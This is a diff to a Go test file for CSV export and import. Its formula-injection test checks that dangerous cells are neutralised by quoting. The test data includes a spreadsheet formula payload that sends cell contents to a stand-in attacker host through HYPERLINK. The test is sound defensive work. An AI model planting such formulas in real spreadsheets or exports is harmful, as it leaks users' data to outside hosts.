@@ -60,14 +60,14 @@ func TestIdeasCSVRoundTrip(t *testing.T) {
 }
 
 // TestFormulaInjection: cells a spreadsheet would run come out quoted, and
-// read back as they were.
+// read back as they were. (A title cannot start with a tab: it holds no
+// control character; internal/csvsafe tests tabs.)
 func TestFormulaInjection(t *testing.T) {
 	titles := []string{
 		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
 		"+212 600 000 000",
 		"-2 for the price of one",
 		"@SUM(A1:A9)",
-		"\tTabbed",
 		"'=already quoted",
 		"''=twice quoted",
 		"'plain quote",
@@ -90,12 +90,11 @@ func TestFormulaInjection(t *testing.T) {
 		titles[1]: `'+212 600 000 000`,
 		titles[2]: `'-2 for the price of one`,
 		titles[3]: `'@SUM(A1:A9)`,
-		titles[4]: "'\tTabbed",
-		titles[5]: `''=already quoted`,
-		titles[6]: `'''=twice quoted`,
-		titles[7]: `'plain quote`, // no formula after the quote: as is
-		titles[8]: `a=b is harmless`,
-		titles[9]: `تعاونية =`,
+		titles[4]: `''=already quoted`,
+		titles[5]: `'''=twice quoted`,
+		titles[6]: `'plain quote`, // no formula after the quote: as is
+		titles[7]: `a=b is harmless`,
+		titles[8]: `تعاونية =`,
 	}
 	for _, row := range rows[1:] {
 		for _, cell := range row {
@@ -141,6 +140,7 @@ func TestImportIdeasCSVErrorsNameTheLine(t *testing.T) {
 			"line 5: title: title is a required field",
 			"line 5: region: region must be the code of one of Morocco's 12 regions, such as souss-massa",
 			"line 5: cooperative: cooperative names cooperative coop-9, which is not in the bank",
+			"line 6: title: title must be visible text, without control characters (escape sequences, line breaks) or bidirectional controls",
 			"line 8: malformed CSV: wrong number of fields (column 1)"}},
 		{"bad quoting", "id,title\n\"AGA-1,x\n", []string{`line 2: malformed CSV: extraneous or missing " in quoted-field (column 10)`}},
 	}
